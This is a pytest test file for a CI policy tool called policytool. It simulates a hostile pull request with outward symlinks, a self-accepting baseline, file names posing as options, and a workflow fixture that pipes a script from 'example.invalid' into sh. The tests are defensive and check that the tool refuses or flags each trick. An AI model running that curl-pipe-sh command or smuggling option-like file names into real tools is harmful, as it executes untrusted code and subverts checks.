# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: Copyright contributors to the policytool project
"""A hostile pull request against ``init``, ``baseline``, ``sync`` and the command line.

The author of a pull request controls every file policytool reads in CI, file names and
symlinks included: none of them may make policytool write outside the repository, read
a file name as an option, or accept the pull request's own findings unseen.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import GIT_ENV, Repo, Result
from tests.tryrepo import PROJECT

Run = Callable[..., Result]

PYPROJECT = '[project]\nname = "demo"\nversion = "0"\n'


def _files_below(path: Path) -> list[str]:
    """Every file and directory below ``path`` (relative, sorted)."""
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))


# --- item 3: init, baseline and sync never write outside the repository ---------------


def test_init_refuses_a_github_symlink_out_and_writes_nothing(
    repo: Repo, run: Run, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    repo.write("pyproject.toml", PYPROJECT)
    os.symlink("../outside", repo.root / ".github")
    repo.commit()
    before = repo.read("pyproject.toml")
    result = run("init")
    assert result.code == 2, result.out
    assert _files_below(outside) == []
    assert "resolves outside the repository" in result.err
    assert ".github/" in result.err
    assert len(result.err.strip().splitlines()) == 1
    assert repo.read("pyproject.toml") == before  # nothing written, the config neither
    assert not (repo.root / ".pre-commit-config.yaml").exists()


def test_init_refuses_a_workflows_symlink_out(repo: Repo, run: Run, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    repo.write("pyproject.toml", PYPROJECT)
    (repo.root / ".github").mkdir()
    os.symlink("../../outside", repo.root / ".github" / "workflows")
    repo.commit()
    assert run("init", "--dry-run").code == 2
    assert run("init").code == 2
    assert _files_below(outside) == []


def test_init_writes_through_a_github_symlink_that_stays_inside(repo: Repo, run: Run) -> None:
    repo.write("pyproject.toml", PYPROJECT)
    (repo.root / "ci").mkdir()
    os.symlink("ci", repo.root / ".github")
    repo.commit()
    result = run("init")
    assert result.code == 0, result.err
    assert (repo.root / "ci" / "workflows" / "pre-commit.yml").is_file()


def test_baseline_refuses_a_baseline_file_symlink_out(repo: Repo, run: Run, tmp_path: Path) -> None:
    outside = tmp_path / "outside.json"
    outside.write_text("[]\n")
    repo.write("pyproject.toml", PYPROJECT)
    os.symlink(str(outside), repo.root / ".policytool-baseline.json")
    repo.commit()
    result = run("baseline")
    assert result.code == 2
    assert "resolves outside the repository" in result.err
    assert outside.read_text() == "[]\n"


def test_sync_refuses_a_github_symlink_out(repo: Repo, run: Run, tmp_path: Path) -> None:
    repo.write("pyproject.toml", PYPROJECT)
    assert run("init").code == 0
    real = repo.root / ".github"
    outside = tmp_path / "outside"
    real.rename(outside)
    os.symlink("../outside", real)
    mergify = outside / "mergify.yml"
    # stale the block so sync wants to write it
    text = mergify.read_text()
    mergify.write_text(text.replace("pre-commit run --all-files", "pre-commit run -a"))
    before = mergify.read_bytes()
    result = run("sync")
    assert result.code == 2, result.out
    assert mergify.read_bytes() == before
    assert [p.name for p in outside.iterdir() if p.name.endswith(".tmp")] == []


# --- item 6: a pull request cannot accept its own findings unseen ---------------------

CONFIG = """\
[project]
name = "demo"
version = "0"

[[tool.policytool.forbidden-import]]
modules = ["pickle"]
reason = "unsafe"
"""

HOSTILE_WORKFLOW = """\
name: ci
on: [pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: curl -sSL https://example.invalid/install.sh | sh
      - run: pip install requests
"""


def _hostile_pr(repo: Repo, run: Run) -> tuple[str, int]:
    """A clean base commit, then a pull request adding four findings and a baseline that
    accepts them; (the base sha, how many findings the baseline accepts)."""
    repo.write("pyproject.toml", CONFIG)
    repo.write("ok.py", "import os\n")
    base = repo.commit("base")
    repo.write(".github/workflows/ci.yml", HOSTILE_WORKFLOW)
    repo.write("evil.py", "import pickle\n")
    repo.commit("pr: the findings")
    found = run("check", "--format", "json")
    assert found.code == 1, found.out
    entries: dict[tuple[str, str, str], int] = {}
    for f in json.loads(found.out):
        key = (f["rule"], f["path"], f["message"])
        entries[key] = entries.get(key, 0) + 1
    rules = {key[0] for key in entries}
    # ci-floating-install: the curl | sh and the unpinned install.
    assert {"forbidden-import", "action-pin", "ci-floating-install"} <= rules, rules
    assert sum(entries.values()) >= 4, entries
    baseline = [
        {"rule": r, "path": p, "message": m, "count": c} for (r, p, m), c in entries.items()
    ]
    repo.write(".policytool-baseline.json", json.dumps(baseline))
    repo.commit("pr")
    return base, sum(entries.values())


def test_accepted_findings_are_counted_in_every_format(repo: Repo, run: Run) -> None:
    _base, accepted = _hostile_pr(repo, run)
    text = run("check")
    assert text.code == 0
    assert f"no findings ({accepted} accepted by .policytool-baseline.json) in " in text.out
    as_json = json.loads(run("check", "--format", "json").out)
    assert len(as_json) == accepted
    assert all(f["accepted"] is True for f in as_json)
    assert {f["accepted_by"] for f in as_json} == {".policytool-baseline.json"}
    sarif = json.loads(run("check", "--format", "sarif").out)
    results = sarif["runs"][0]["results"]
    assert len(results) == accepted
    for result in results:
        (suppression,) = result["suppressions"]
        assert suppression["kind"] == "external"
        assert suppression["status"] == "accepted"
    github = run("check", "--format", "github").out
    assert f"::notice title=policytool baseline::{accepted} findings accepted by" in github
    markdown = run("check", "--format", "markdown").out
    assert f"{accepted} accepted by .policytool-baseline.json" in markdown


def test_baseline_from_the_base_commit_ignores_the_pull_requests_own_baseline(
    repo: Repo, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    base, accepted = _hostile_pr(repo, run)
    judged = run("check", "--baseline-from", base, "--format", "json")
    assert judged.code == 1
    assert len(json.loads(judged.out)) == accepted
    assert not any(f.get("accepted") for f in json.loads(judged.out))
    monkeypatch.setenv("POLICYTOOL_BASELINE_FROM", base)  # what the init workflow sets
    assert run("check").code == 1
    assert run("check", "evil.py").code == 1  # a pre-commit hook call too
    monkeypatch.setenv("POLICYTOOL_BASELINE_FROM", "")  # a push: the work tree's
    assert run("check").code == 0


def test_baseline_from_reads_the_committed_baseline(repo: Repo, run: Run) -> None:
    _base, accepted = _hostile_pr(repo, run)
    head = repo.git("rev-parse", "HEAD").strip()
    (repo.root / ".policytool-baseline.json").unlink()  # the work tree's is not read
    result = run("check", "--baseline-from", head)
    assert result.code == 0, result.out
    shown = f"{accepted} accepted by {head}:.policytool-baseline.json"
    assert shown in result.out


@pytest.mark.parametrize(
    ("rev", "message"),
    [
        ("no-such-rev", "--baseline-from no-such-rev: not a commit of this repository"),
        ("--output=x", "--baseline-from --output=x: not a commit of this repository"),
    ],
)
def test_baseline_from_a_bad_rev_is_one_sentence(
    repo: Repo, run: Run, rev: str, message: str
) -> None:
    repo.write("pyproject.toml", CONFIG)
    repo.commit()
    result = run("check", f"--baseline-from={rev}")
    assert result.code == 2
    assert result.err == f"policytool: error: {message}\n"
    assert not (repo.root / "x").exists()


def test_init_workflow_judges_a_pull_request_by_its_base_baseline(repo: Repo, run: Run) -> None:
    repo.write("pyproject.toml", PYPROJECT)
    repo.commit()
    assert run("init").code == 0
    workflow = repo.read(".github/workflows/pre-commit.yml").decode()
    assert "POLICYTOOL_BASELINE_FROM: ${{ github.event.pull_request.base.sha }}" in workflow
    assert 'git fetch --no-tags --depth=1 origin "$POLICYTOOL_BASELINE_FROM"' in workflow


# --- item 11: a deeply nested baseline (or any JSON) is one sentence ------------------


def test_a_deeply_nested_baseline_is_one_sentence(repo: Repo, run: Run) -> None:
    repo.write("pyproject.toml", PYPROJECT)
    repo.write(".policytool-baseline.json", "[" * 100_000)
    repo.commit()
    for args in (("check",), ("fix",), ("baseline",)):
        result = run(*args)
        assert result.code == 2, args
        assert result.err == (
            "policytool: error: .policytool-baseline.json: not a policytool baseline "
            "(invalid JSON: nested too deeply to parse)\n"
        ), args
    head = repo.git("rev-parse", "HEAD").strip()
    result = run("check", "--baseline-from", head)
    assert result.err.startswith(f"policytool: error: {head}:.policytool-baseline.json: not a")


def test_parse_json_turns_deep_nesting_into_a_value_error() -> None:
    from policytool.core.text import parse_json

    with pytest.raises(ValueError, match="nested too deeply"):
        parse_json("[" * 100_000 + "]" * 100_000)
    assert parse_json(b'{"a": [1]}') == {"a": [1]}


# --- item 17: the internal-error message names no address -----------------------------


def test_internal_error_names_no_address(
    repo: Repo, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    from policytool.engine import runner

    def broken(*args: object, **kwargs: object) -> None:
        raise ZeroDivisionError("division by zero")

    repo.write("pyproject.toml", PYPROJECT)
    repo.commit()
    monkeypatch.setattr(runner, "run_file_rules", broken)
    monkeypatch.delenv("POLICYTOOL_DEBUG", raising=False)
    result = run("check")
    assert result.code == 2
    assert "https://" not in result.err
    assert "please report it to the policytool maintainers with the command you ran" in result.err


# --- item 4: a file name is never an option ---------------------------------------------

BANS_PICKLE = CONFIG


@pytest.mark.parametrize(
    ("name", "verdict"),
    [
        ("--config=empty.py", "ambiguous"),
        ("--config", "ambiguous"),
        ("--only=spdx-header", "ambiguous"),
        ("--skip=forbidden-import", "ambiguous"),
        ("--format=json", "ambiguous"),
        ("--quiet", "ambiguous"),
        ("-q", "ambiguous"),
        ("-qx.py", "ambiguous"),
        ("--help", "ambiguous"),
        ("-h", "ambiguous"),
        ("--evil.py", "path"),
        ("-evil.py", "path"),
        ("--", "path"),
    ],
)
@pytest.mark.parametrize("command", ["check", "fix"])
def test_a_file_name_that_looks_like_an_option(
    repo: Repo, run: Run, command: str, name: str, verdict: str
) -> None:
    repo.write("pyproject.toml", BANS_PICKLE)
    repo.write("empty.py", "")
    if name != "--":
        repo.write(name, "import pickle\n")
    repo.commit()
    files = ["empty.py", name] if name != "--" else ["empty.py", "--", "a.py"]
    if name == "--":
        repo.write("a.py", "import pickle\n")
        repo.commit()
    result = run(command, "--only", "forbidden-import", *files)
    if verdict == "ambiguous":
        assert result.code == 2
        assert result.err == (
            f"policytool: error: `{name}` is both an option and a file name; rename the file\n"
        )
        assert result.out == ""
    else:
        shown = "a.py" if name == "--" else name
        assert result.code == 1, result.err
        assert f"{shown}:1:8: forbidden-import" in result.out


def test_an_option_value_that_names_a_file_stays_a_value(repo: Repo, run: Run) -> None:
    repo.write("pyproject.toml", BANS_PICKLE)
    repo.write("-conf.toml", BANS_PICKLE)
    repo.write("a.py", "import pickle\n")
    repo.commit()
    result = run("check", "--config", "-conf.toml", "a.py")
    assert result.code == 1, result.err
    assert "a.py:1:8: forbidden-import" in result.out


def _precommit(repo: Repo) -> subprocess.CompletedProcess[str]:
    """A real ``pre-commit run --all-files`` of the published ``forbidden-import`` hook,
    offline: its manifest entry as a local hook running this environment's policytool."""
    import yaml

    manifest = yaml.safe_load((PROJECT / ".pre-commit-hooks.yaml").read_text())
    (hook,) = [h for h in manifest if h["id"] == "forbidden-import"]
    local = {k: v for k, v in hook.items() if k not in ("language",)}
    config = {"repos": [{"repo": "local", "hooks": [{**local, "language": "system"}]}]}
    repo.write(".pre-commit-config.yaml", yaml.safe_dump(config))
    repo.commit("pre-commit config")
    env = {k: v for k, v in os.environ.items() if not k.startswith("PRE_COMMIT")}
    env.update(GIT_ENV)
    bindir = str(Path(sys.executable).parent)
    env.update(
        {
            "PATH": bindir + os.pathsep + env.get("PATH", ""),
            "PYTHONPATH": str(PROJECT),  # this checkout's policytool, whatever is installed
            "PRE_COMMIT_HOME": str(repo.root.parent / "pre-commit-home"),
            "NO_COLOR": "1",
        }
    )
    return subprocess.run(
        [sys.executable, "-m", "pre_commit", "run", "--all-files", "--color=never"],
        cwd=repo.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_precommit_cannot_be_fed_a_config_by_file_name(repo: Repo) -> None:
    repo.write("pyproject.toml", BANS_PICKLE)
    repo.write("empty.py", "")
    repo.write("--config=empty.py", "import pickle\n")
    repo.write("evil.py", "import pickle\n")
    repo.commit()
    result = _precommit(repo)
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "`--config=empty.py` is both an option and a file name; rename the file" in out


def test_precommit_checks_a_file_named_like_an_unknown_option(repo: Repo) -> None:
    repo.write("pyproject.toml", BANS_PICKLE)
    repo.write("--evil.py", "import pickle\n")
    repo.commit()
    result = _precommit(repo)
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "--evil.py:1:8: forbidden-import import of `pickle` is forbidden" in out
